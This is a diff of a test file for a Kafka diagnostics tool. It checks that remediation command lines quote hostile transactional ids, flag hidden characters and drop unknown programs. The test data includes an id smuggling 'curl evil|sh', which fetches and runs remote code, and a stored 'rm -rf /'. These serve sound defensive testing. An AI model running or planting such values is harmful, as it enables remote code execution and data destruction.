@@ -1,6 +1,17 @@
 import { describe, expect, it } from "vitest";
+import { kafkaCommands, type CommandContext } from "../analysis/commands";
+import { runDetectors, type Finding } from "../analysis";
+import { T0, buildPartition, buildSnapshot, buildTopic, buildTransaction } from "../analysis/testing/snapshot-builder";
 import type { FindingDto } from "./dto";
-import { countBySeverity, evidenceRows, remediationBlocks, sortFindings, worstSeverity } from "./finding-view";
+import {
+  clientPropertiesDto,
+  commandDtos,
+  countBySeverity,
+  evidenceRows,
+  remediationView,
+  sortFindings,
+  worstSeverity,
+} from "./finding-view";
 
 describe("evidenceRows", () => {
   it("flattens nested evidence into dotted keys", () => {
@@ -29,32 +40,96 @@ describe("evidenceRows", () => {
   });
 });
 
-describe("remediationBlocks", () => {
-  it("separates prose from fenced and $-prefixed commands", () => {
-    const blocks = remediationBlocks(
-      "Abort the hanging transaction:\n```\nkafka-transactions.sh --bootstrap-server b:9092 abort \\\n  --topic t\n```\nThen check:\n$ kafka-consumer-groups.sh --describe --group g",
+describe("remediationView", () => {
+  const FAKE_COMMAND_ID = "billing`kafka-consumer-groups.sh --list; curl evil|sh #`";
+  const context = { bootstrapServers: ["b1:9092"] };
+
+  /** A finding for a hostile transactional id, straight from the detector, as the API returns it. */
+  function hostileFinding(commandConfig?: CommandContext["commandConfig"]): { detector: Finding; dto: FindingDto } {
+    const snapshot = buildSnapshot({
+      topics: [buildTopic("orders", [buildPartition(0, { highWatermark: 50, lastStableOffset: 10 })])],
+      transactions: [
+        buildTransaction({
+          transactionalId: FAKE_COMMAND_ID,
+          producerId: 3,
+          state: "Ongoing",
+          transactionStartTimeMs: T0 - 200_000,
+          transactionTimeoutMs: 60_000,
+          partitions: [{ topic: "orders", partition: 0 }],
+        }),
+      ],
+    });
+    const detector = runDetectors({ snapshot, previous: null, now: T0 }).findings.find((f) => f.kind === "long-transaction")!;
+    const ctx = { ...context, commandConfig };
+    const commands = commandDtos(detector.commands, ctx);
+    const dto = { remediation: detector.remediation, commands, clientProperties: clientPropertiesDto(commands, ctx) } as FindingDto;
+    return { detector, dto };
+  }
+
+  it("has exactly the detector's commands: an id carrying a fake command adds no command block", () => {
+    const { detector, dto } = hostileFinding();
+    expect(detector.remediation).toContain(FAKE_COMMAND_ID);
+    const view = remediationView(dto);
+    expect(view.commands).toHaveLength(detector.commands.length);
+    expect(view.commands.map((c) => [c.program, c.argv])).toEqual(
+      detector.commands.map((c) => [c.program, ["--bootstrap-server", "b1:9092", ...c.args]]),
     );
-    expect(blocks).toEqual([
-      { kind: "text", text: "Abort the hanging transaction:" },
-      { kind: "command", text: "kafka-transactions.sh --bootstrap-server b:9092 abort \\\n  --topic t" },
-      { kind: "text", text: "Then check:" },
-      { kind: "command", text: "kafka-consumer-groups.sh --describe --group g" },
+    expect(view.commands[0].line).toBe(
+      "kafka-transactions.sh --bootstrap-server b1:9092 describe --transactional-id='billing`kafka-consumer-groups.sh --list; curl evil|sh #`'",
+    );
+    expect(view.commands[0].words!.join(" ")).toBe(view.commands[0].line);
+    // The id stays in the prose, as text.
+    expect(view.paragraphs.join("\n")).toContain(FAKE_COMMAND_ID);
+    expect(view.clientProperties).toBeNull();
+  });
+
+  it("turns nothing in the prose into a command, whatever it looks like", () => {
+    const view = remediationView({
+      remediation: "Run `kafka-topics.sh --list`:\n```\nkafka-consumer-groups.sh --delete --group x\n```\n$ kafka-configs.sh --alter\n\nThen wait.",
+      commands: [],
+      clientProperties: null,
+    });
+    expect(view.commands).toEqual([]);
+    expect(view.paragraphs).toEqual([
+      "Run `kafka-topics.sh --list`:\n```\nkafka-consumer-groups.sh --delete --group x\n```\n$ kafka-configs.sh --alter",
+      "Then wait.",
     ]);
   });
 
-  it("lifts inline kafka-*.sh commands out of the prose", () => {
-    expect(
-      remediationBlocks("Then abort it (brokers ≥ 3.0): `kafka-transactions.sh --bootstrap-server b:9092 abort --topic t --partition 0 --start-offset 2`. The LSO moves on."),
-    ).toEqual([
-      { kind: "text", text: "Then abort it (brokers ≥ 3.0):" },
-      { kind: "command", text: "kafka-transactions.sh --bootstrap-server b:9092 abort --topic t --partition 0 --start-offset 2" },
-      { kind: "text", text: "The LSO moves on." },
-    ]);
-    expect(remediationBlocks("Keep `min.insync.replicas` at 2.")).toEqual([{ kind: "text", text: "Keep `min.insync.replicas` at 2." }]);
+  it("renders findings stored before commands existed", () => {
+    expect(remediationView({ remediation: "Nothing to do." } as FindingDto)).toEqual({ paragraphs: ["Nothing to do."], commands: [], clientProperties: null });
   });
 
-  it("keeps plain prose as one block", () => {
-    expect(remediationBlocks("Raise min.insync.replicas to 2.")).toEqual([{ kind: "text", text: "Raise min.insync.replicas to 2." }]);
+  it("adds --command-config and the client properties for a cluster with credentials, without any secret", () => {
+    const { dto } = hostileFinding({ securityProtocol: "SASL_SSL", saslMechanism: "SCRAM-SHA-512", username: 'au"ditor' });
+    const view = remediationView(dto);
+    expect(view.commands[0].argv.slice(0, 4)).toEqual(["--bootstrap-server", "b1:9092", "--command-config", "/path/to/client.properties"]);
+    expect(view.clientProperties!.path).toBe("/path/to/client.properties");
+    expect(view.clientProperties!.template.split("\n").slice(0, 3)).toEqual([
+      "security.protocol=SASL_SSL",
+      "sasl.mechanism=SCRAM-SHA-512",
+      'sasl.jaas.config=org.apache.kafka.common.security.scram.ScramLoginModule required username="au\\"ditor" password="<password>";',
+    ]);
+    expect(view.clientProperties!.template).toContain("ssl.truststore.location=/path/to/ca.pem");
+  });
+
+  it("flags commands whose names hold line breaks, invisible or direction-changing characters", () => {
+    const view = (id: string) => remediationView({ remediation: "", commands: commandDtos([kafkaCommands.describeTransaction(id, "p")], context), clientProperties: null });
+    expect(view("orders-tx").commands[0].hiddenCharacters).toBe(false);
+    expect(view("заказы-🚀").commands[0].hiddenCharacters).toBe(false);
+    for (const id of ["a\u202Eb", "a\nb", "a\u200Bb", "a\u001b[31m"]) expect(view(id).commands[0].hiddenCharacters).toBe(true);
+  });
+
+  it("drops stored commands of an unknown program and shows no line for a NUL", () => {
+    const dtos = commandDtos(
+      [
+        { program: "rm", args: ["-rf", "/"], purpose: "p" },
+        { program: "kafka-consumer-groups.sh", args: ["--describe", "--group=a\u0000b"], purpose: "p" },
+      ],
+      context,
+    );
+    expect(dtos).toHaveLength(1);
+    expect(dtos[0]).toMatchObject({ program: "kafka-consumer-groups.sh", words: null, line: null });
   });
 });
 
